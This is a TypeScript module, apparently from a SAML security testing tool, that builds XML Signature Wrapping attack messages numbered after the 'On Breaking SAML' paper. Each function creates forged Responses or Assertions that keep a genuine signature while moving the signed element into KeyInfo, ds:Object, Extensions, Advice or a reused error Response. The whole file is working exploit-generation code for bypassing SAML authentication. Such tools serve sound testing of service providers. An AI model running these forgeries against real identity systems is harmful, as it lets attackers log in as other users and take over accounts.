/** Signature wrapping: the signature holds, but over another element than the one that is read (T01 to T03, T05, T06). */
import type { Draft } from './attack.ts'
import { draft } from './attack.ts'
import { DS, EVIL_ASSERTION, EVIL_RESPONSE, type Material, withoutOuterSignature } from './material.ts'
import { appended, before, changed, withId } from './outline.ts'

/** Wrapped Responses, Assertions and decoys, numbered XSW1 to XSW8 as in "On Breaking SAML" (USENIX Security 2012). */
export function wrapping(m: Material): readonly Draft[] {
  const drafts = [...inSignature(m)]
  if (m.responseSignature) drafts.push(...wrappedResponse(m))
  if (m.assertionSignature) drafts.push(...wrappedAssertion(m), ...coveredAssertion(m), ...outside(m))
  if (m.shape === 'both') {
    const inner = withoutOuterSignature(m)
    const again = [...wrappedAssertion(inner), ...coveredAssertion(inner), ...outside(inner)]
    drafts.push(...again.map((one) => ({ ...one, id: `${one.id}-outer-removed` })), doubleWrap(m))
  }
  return drafts
}

const statusTag = (m: Material) => `<${m.samlp}Status>`
const xmlnsDs = (m: Material) => `xmlns${m.ds ? ':' : ''}${m.ds.replace(':', '')}="${DS}"`

/** The evil Response carries the genuine signature and, somewhere, the genuine Response without it. */
function wrappedResponse(m: Material): readonly Draft[] {
  const evil = (signature: string) => before(m.forgedResponse, statusTag(m), signature)
  const inSignature = (content: string) => evil(appended(m.responseSignature, content))
  const object = (content: string) => `<${m.ds}Object>${content}</${m.ds}Object>`
  const around = (name: string, content: string) => `<${m.samlp}${name}>${content}</${m.samlp}${name}>`
  return [
    draft('T01-xsw1', 'Forged Response; the signed one inside its Signature', () => inSignature(m.bareResponse)),
    draft('T01-xsw2', 'Forged Response; the signed one before its Signature', () =>
      evil(m.bareResponse + m.responseSignature),
    ),
    draft('T01-object', 'Forged Response; the signed one in ds:Object', () => inSignature(object(m.bareResponse))),
    draft('T01-key-info', 'Forged Response; the signed one in KeyInfo', () =>
      evil(inKeyInfo(m, m.responseSignature, m.bareResponse)),
    ),
    draft('T01-extensions', 'Forged Response; the signed one in Extensions', () =>
      evil(m.responseSignature + around('Extensions', m.bareResponse)),
    ),
    draft('T01-extensions-whole', 'Forged unsigned Response; the whole signed one in Extensions', () =>
      evil(around('Extensions', m.xml)),
    ),
    draft('T01-status-detail', 'Forged unsigned Response; the whole signed one in StatusDetail', () =>
      changed(m.forgedResponse, `</${m.samlp}Status>`, `${around('StatusDetail', m.xml)}</${m.samlp}Status>`),
    ),
    draft('T01-advice', 'Forged Assertion whose Advice holds the whole signed Response', () =>
      changed(m.forgedResponse, m.forgedAssertion, advised(m, m.forgedAssertion, m.xml)),
    ),
    draft('T01-last-child', 'Forged Response; the whole signed one as its last child', () =>
      appended(m.forgedResponse, m.xml),
    ),
  ]
}

/** XSW3 to XSW6, and a ninth and tenth. */
function wrappedAssertion(m: Material): readonly Draft[] {
  const assertions = (text: string) => changed(m.xml, m.assertion, text)
  const evilSigned = (signature: string) => signedAs(m, m.forgedAssertion, signature)
  return [
    draft('T02-xsw3', 'Forged Assertion before the signed one', () => assertions(m.forgedAssertion + m.assertion)),
    draft('T02-xsw3-after', 'Forged Assertion behind the signed one', () =>
      assertions(m.assertion + m.forgedAssertion),
    ),
    draft('T02-xsw4', 'Forged Assertion around the signed one', () =>
      assertions(appended(m.forgedAssertion, m.assertion)),
    ),
    draft('T02-xsw5', 'Forged Assertion with the signature; the signed one behind it', () =>
      assertions(evilSigned(m.assertionSignature) + m.bareAssertion),
    ),
    draft('T02-xsw6', 'Forged Assertion with the signature; the signed one inside the Signature', () =>
      assertions(evilSigned(appended(m.assertionSignature, m.bareAssertion))),
    ),
    draft('T02-xsw9', 'The signature moved up to the Response; forged and signed Assertion beneath', () =>
      before(assertions(m.forgedAssertion + m.bareAssertion), statusTag(m), m.assertionSignature),
    ),
    draft('T02-xsw10', 'Forged Assertion with the signature; the signed one in KeyInfo', () =>
      assertions(evilSigned(inKeyInfo(m, m.assertionSignature, m.bareAssertion))),
    ),
    draft('T02-root', 'The root is a forged Assertion; the whole Response in its Advice', () =>
      advised(m, standalone(m, m.forgedAssertion), m.xml),
    ),
  ]
}

/** The signed Assertion hidden inside a forged one, where a schema allows something. */
function coveredAssertion(m: Material): readonly Draft[] {
  const cover = (forged: string) => changed(m.xml, m.assertion, forged)
  const close = (name: string) => `</${m.saml}${name}>`
  return [
    draft('T05-advice', 'Signed Assertion in the Advice of a forged one', () =>
      cover(advised(m, m.forgedAssertion, m.assertion)),
    ),
    draft('T05-advice-signature-outside', 'The same, the signature on the forged one', () =>
      cover(signedAs(m, advised(m, m.forgedAssertion, m.bareAssertion), m.assertionSignature)),
    ),
    draft('T05-confirmation-data', 'Signed Assertion in the SubjectConfirmationData of a forged one', () =>
      cover(
        before(
          openedUp(m, m.forgedAssertion, 'SubjectConfirmationData'),
          close('SubjectConfirmationData'),
          `<${m.ds}KeyInfo ${xmlnsDs(m)}>${m.assertion}</${m.ds}KeyInfo>`,
        ),
      ),
    ),
    draft('T05-context-declaration', 'Signed Assertion in the AuthnContextDecl of a forged one', () =>
      cover(
        before(
          m.forgedAssertion,
          close('AuthnContext'),
          `<${m.saml}AuthnContextDecl>${m.assertion}</${m.saml}AuthnContextDecl>`,
        ),
      ),
    ),
    draft('T05-attribute-value', 'Signed Assertion as an AttributeValue of a forged one', () =>
      cover(
        before(
          m.forgedAssertion,
          close('Assertion'),
          `<${m.saml}AttributeStatement><${m.saml}Attribute Name="x"><${m.saml}AttributeValue>${m.assertion}</${m.saml}AttributeValue></${m.saml}Attribute></${m.saml}AttributeStatement>`,
        ),
      ),
    ),
  ]
}

/** Forgeries where nothing is signed: beside the signed Assertion, in what the schema leaves open (XSW7, XSW8 and own). */
function outside(m: Material): readonly Draft[] {
  const extensions = (content: string) =>
    before(m.xml, statusTag(m), `<${m.samlp}Extensions>${content}</${m.samlp}Extensions>`)
  const detail = `<${m.samlp}StatusDetail>${m.forgedAssertion}</${m.samlp}StatusDetail>`
  const object = `<${m.ds}Object>${m.bareAssertion}</${m.ds}Object>`
  const loose = (name: string) => {
    const found = new RegExp(`<${m.saml}${name}[\\s>].*</${m.saml}${name}>`, 's').exec(m.forgedAssertion)?.[0] ?? ''
    return appended(standalone(m, `<${m.saml}x></${m.saml}x>`), found)
  }
  return [
    draft('T03-xsw7', 'Forged Assertion in an Extensions element without namespace', () =>
      changed(m.xml, m.assertion, `<Extensions xmlns="">${m.forgedAssertion}</Extensions>${m.assertion}`),
    ),
    draft('T03-xsw8', 'Forged Assertion with the signature; the signed one in ds:Object', () =>
      changed(m.xml, m.assertion, signedAs(m, m.forgedAssertion, appended(m.assertionSignature, object))),
    ),
    draft('T03-extensions', 'Forged Assertion in samlp:Extensions', () => extensions(m.forgedAssertion)),
    draft('T03-status-detail', 'Forged Assertion in StatusDetail', () => before(m.xml, `</${m.samlp}Status>`, detail)),
    draft('T03-foreign-namespace', 'Forged Assertion of another namespace before the signed one', () =>
      changed(m.xml, m.assertion, foreign(m, m.forgedAssertion) + m.assertion),
    ),
    draft('T03-foreign-namespace-extensions', 'Forged Assertion of another namespace in Extensions', () =>
      extensions(foreign(m, m.forgedAssertion)),
    ),
    draft('T03-foreign-no-id', 'Forged Assertion of another namespace and without ID, before the signed one', () =>
      changed(m.xml, m.assertion, withoutId(foreign(m, m.forgedAssertion)) + m.assertion),
    ),
    draft(
      'T03-foreign-no-id-extensions',
      'The same in Extensions, which nobody signed',
      () => extensions(withoutId(foreign(m, m.forgedAssertion))),
      'nothing-forged',
    ),
    draft('T03-loose-subject', 'A Subject in Extensions', () => extensions(loose('Subject')), 'nothing-forged'),
    draft(
      'T03-loose-attributes',
      'An AttributeStatement in Extensions',
      () => extensions(loose('AttributeStatement')),
      'nothing-forged',
    ),
    draft(
      'T03-encrypted-element',
      'Signed Assertion inside an EncryptedAssertion element; a forged one beside it',
      () =>
        changed(
          m.xml,
          m.assertion,
          m.forgedAssertion +
            standalone(m, `<${m.saml}EncryptedAssertion>${m.assertion}</${m.saml}EncryptedAssertion>`),
        ),
    ),
  ]
}

/** The enveloped-signature transform takes the whole Signature out of the digest: what stands in it is never signed. */
function inSignature(m: Material): readonly Draft[] {
  const forged = standalone(m, m.forgedAssertion)
  const outermost = m.responseSignature || m.assertionSignature
  const hide = (signature: string) => changed(m.xml, outermost, signature)
  return [
    draft('T03-key-info', 'Forged Assertion in KeyInfo of a signature that stays valid', () =>
      hide(inKeyInfo(m, outermost, forged)),
    ),
    draft('T03-object', 'Forged Assertion in ds:Object of a signature that stays valid', () =>
      hide(appended(outermost, `<${m.ds}Object>${forged}</${m.ds}Object>`)),
    ),
    draft('T03-in-signature', 'Forged Assertion as first child of a Signature that stays valid', () =>
      hide(outermost.replace(/^<[^>]*>/, (tag) => tag + forged)),
    ),
    draft('T03-key-info-response', 'Forged Response in KeyInfo of a signature that stays valid', () =>
      hide(inKeyInfo(m, outermost, m.forgedResponse)),
    ),
  ]
}

/** Both signatures wrapped at once: each resolves, each holds, and neither is over what is read. */
const doubleWrap = (m: Material): Draft =>
  draft('T01-both-wrapped', 'Both signatures kept on forgeries; the signed Response in the outer one', () =>
    before(
      changed(m.forgedResponse, m.forgedAssertion, signedAs(m, m.forgedAssertion, m.assertionSignature)),
      statusTag(m),
      appended(m.responseSignature, m.bareResponse),
    ),
  )

/** The signature behind the Issuer of an Assertion. */
export const signedAs = (m: Material, assertion: string, signature: string): string =>
  changed(assertion, `</${m.saml}Issuer>`, `</${m.saml}Issuer>${signature}`)

/** Content in the Signature's KeyInfo, which nothing signs. */
export function inKeyInfo(m: Material, signature: string, content: string): string {
  const close = `</${m.ds}KeyInfo>`
  if (signature.includes(close)) return before(signature, close, content)
  return appended(signature, `<${m.ds}KeyInfo>${content}</${m.ds}KeyInfo>`)
}

const advised = (m: Material, assertion: string, content: string): string =>
  changed(assertion, `</${m.saml}Conditions>`, `</${m.saml}Conditions><${m.saml}Advice>${content}</${m.saml}Advice>`)

/** The element with every namespace declared that it may inherit from the message around it. */
export function standalone(m: Material, element: string): string {
  const [, tag = '', rest = ''] = /^(<[^\s>]+)(.*)$/s.exec(element) ?? []
  const start = /^[^>]*/.exec(rest)?.[0] ?? ''
  const around = [...m.xml.matchAll(/\s(xmlns(?::[\w.-]+)?)="([^"]*)"/g)]
  const needed = new Map(around.map(([, name = '', value = '']) => [name, value]))
  const added = [...needed].filter(([name]) => !new RegExp(`\\s${name}=`).test(start))
  return `${tag}${added.map(([name, value]) => ` ${name}="${value}"`).join('')}${rest}`
}

/** Without the ID that would give it away. */
const withoutId = (element: string): string => changed(element, / ID="[^"]*"/, '')

/** The same element names in a namespace that means nothing, for those who look at local names only. */
function foreign(m: Material, assertion: string): string {
  const name = m.saml.replace(':', '')
  const bare = assertion.replace(new RegExp(`\\sxmlns${name ? `:${name}` : ''}="[^"]*"`, 'g'), '')
  return bare.replace(/^<[^\s>]+/, (tag) => `${tag} xmlns${name ? `:${name}` : ''}="urn:example:nothing"`)
}

/** An empty element written as a pair of tags. */
const openedUp = (m: Material, xml: string, name: string): string =>
  xml.replace(new RegExp(`<(${m.saml}${name})((?:\\s[^>]*?)?)/>`), '<$1$2></$1>')

/** Signed messages of the same identity provider that are no sign-on, as the cover of a forged one (T06). Needs its keys. */
export function covers(m: Material): readonly Draft[] {
  const keys = m.genuine.idpKeys
  if (keys === undefined) return []
  const responder = 'urn:oasis:names:tc:SAML:2.0:status:Responder'
  const error = m.fake(
    keys,
    { sign: 'response', withAssertion: false, statusCode: responder, responseId: '_error' },
    true,
  )
  const signature = /<ds:Signature .*<\/ds:Signature>/s.exec(error)?.[0] ?? ''
  const plain = m.fake(keys, { sign: 'none', responseId: EVIL_RESPONSE, assertionId: EVIL_ASSERTION })
  const assertion = /<saml2:Assertion .*<\/saml2:Assertion>/s.exec(plain)?.[0] ?? ''
  const bareError = changed(error, signature, '')
  return [
    draft('T06-error-and-assertion', 'Forged Assertion added to a signed error Response', () =>
      appended(error, assertion),
    ),
    draft('T06-error-in-signature', 'Forged Assertion inside the signature of a signed error Response', () =>
      changed(error, '</ds:KeyInfo>', `${assertion}</ds:KeyInfo>`),
    ),
    draft('T06-error-in-signature-success', 'The same, with a Success status before it', () =>
      changed(
        error,
        '</ds:KeyInfo>',
        `<saml2p:Status><saml2p:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"></saml2p:StatusCode></saml2p:Status>${assertion}</ds:KeyInfo>`,
      ),
    ),
    draft('T06-error-wrapped', 'Forged Response with the signature of an error Response that it holds', () =>
      before(plain, '<saml2p:Status>', appended(signature, bareError)),
    ),
    draft('T06-error-extensions', 'Forged Response with a whole signed error Response in Extensions', () =>
      before(plain, '<saml2p:Status>', `<saml2p:Extensions>${error}</saml2p:Extensions>`),
    ),
    draft('T06-same-id', 'Forged Response with the ID of the signed error Response in its KeyInfo', () =>
      before(
        withId(plain, '_error'),
        '<saml2p:Status>',
        changed(signature, '</ds:KeyInfo>', `${bareError}</ds:KeyInfo>`),
      ),
    ),
  ]
}
